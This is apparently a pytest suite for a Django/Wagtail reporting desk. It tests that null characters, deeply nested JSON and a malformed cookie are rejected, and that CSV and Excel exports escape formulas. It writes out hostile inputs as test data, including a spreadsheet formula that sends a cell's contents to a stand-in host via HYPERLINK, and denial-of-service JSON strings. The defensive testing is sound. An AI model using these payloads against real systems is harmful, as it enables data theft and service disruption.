"""What is sent to the desk to break it is refused in words, at whatever address it is sent."""

import io
import json

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.urls import reverse
from django.utils import timezone
from wagtail.log_actions import log

from dalil.bulletin.http.unstorable import is_nested_too_deep
from dalil.bulletin.models import FrontPage
from dalil.bulletin.pages.first_pages import lay_first_pages

QUESTION = {"question": "{}", "slug": "x", "title_en": "X"}
HOSTILE = {
    "a null character": {"reason": "a\0b", "name": "a\0b", "verdict": "a\0b", "next": "a\0b"},
    "a null in a name": {"a\0b": "1"},
    "a null written out in JSON": {**QUESTION, "question": '{"measure": "a\\u0000b"}'},
    "half of a pair in JSON": {**QUESTION, "question": '{"measure": "\\ud800"}'},
    "JSON without an end": {**QUESTION, "question": "[" * 100_000},
    "objects without an end": {**QUESTION, "question": '{"a":' * 100_000},
    "a nest that the reader of JSON takes and its user does not": {
        **QUESTION,
        "question": '{"measure":' * 900 + "1" + "}" * 900,
    },
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_no_database_keeps_is_refused_in_words(as_, enter, kind):
    report = enter({"when": "2019-05-01"}, origin="north-monitor")
    desk = as_("salma")
    desk.raise_request_exception = False
    for address in (
        reverse("desk:make_figure"),
        reverse("desk:withdraw", args=[report.address]),
        reverse("desk:enter", args=["incident"]),
        reverse("desk:add_alias", args=["north-monitor"]),
        "/desk/login/",
    ):
        answer = desk.post(address, HOSTILE[kind])
        assert answer.status_code == 400, address
        assert "form" in answer.content.decode()
    assert as_("salma", "ar").post(address, HOSTILE[kind]).status_code == 400


def test_a_cookie_that_spells_a_null_character_is_refused(client):
    client.raise_request_exception = False
    client.cookies.load('sessionid="\\000aaaaaaaaaaaaaaaa"')
    assert client.get("/desk/").status_code == 400


def test_what_people_write_is_no_attack(as_, enter):
    report = enter({"when": "2019-05-01"}, origin="north-monitor")
    address = reverse("desk:withdraw", args=[report.address])
    for reason in ("[[see note]]", "{", '{"a": "\\ud83d\\ude00 \\\\u0000"}', "\\u0000", "C:\\users"):
        assert as_("salma").post(address, {"reason": reason}).status_code != 400, reason


def test_the_depth_of_brackets_inside_texts_does_not_count():
    assert not is_nested_too_deep(json.dumps([["[" * 500], '"' + "{" * 500]))
    assert not is_nested_too_deep('["' + '\\"' * 200_000)
    assert is_nested_too_deep('{"a":' * 101)


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_wagtails_own_lists_leave_without_formulas(as_, format):
    lay_first_pages()
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1)'
    page = FrontPage.objects.get(locale__language_code="en")
    page.title, page.draft_title, page.last_published_at = formula, formula, timezone.now()
    page.save()
    log(page, "wagtail.edit", user=User.objects.get(username="salma"), title=formula)
    for report in ("site-history", "aging-pages"):
        answer = as_("salma").get(f"/desk/reports/{report}/?export={format}")
        body = b"".join(answer)
        if format == "csv":
            assert b"'=HYPERLINK" in body and b'"=HYPERLINK' not in body and b",=HYPERLINK" not in body
        else:
            assert "'=HYPERLINK" in " ".join(cells_of(body))
            assert not any(cell.startswith("=") for cell in cells_of(body))


def cells_of(workbook):
    rows = openpyxl.load_workbook(io.BytesIO(workbook)).active.iter_rows(values_only=True)
    return [str(cell) for row in rows for cell in row]


def test_the_names_of_groups_are_for_those_who_decide_and_for_their_members(as_, staff, enter):
    Group.objects.create(name="Witnesses of Tadamon")
    own = Group.objects.create(name="Northern team")
    staff["alice"].groups.add(own)
    report = enter({"when": "2019-05-01"}, origin="north-monitor")
    forms = [reverse("desk:enter", args=["incident"]), reverse("desk:name_source")]
    forms += [reverse("desk:protect_report", args=[report.address])]
    for person, address, sees in (
        *(("alice", address, "Northern team") for address in forms[:2]),
        *(("bob", address, "tracing officer") for address in forms[:2]),
        ("edith", forms[2], "legal officer"),
    ):
        screen = as_(person).get(address).content.decode()
        assert "Witnesses of Tadamon" not in screen, (person, address)
        assert sees in screen, (person, address)
    assert "Northern team" not in as_("bob").get(forms[0]).content.decode()
    assert "Witnesses of Tadamon" in as_("layla").get(forms[2]).content.decode()
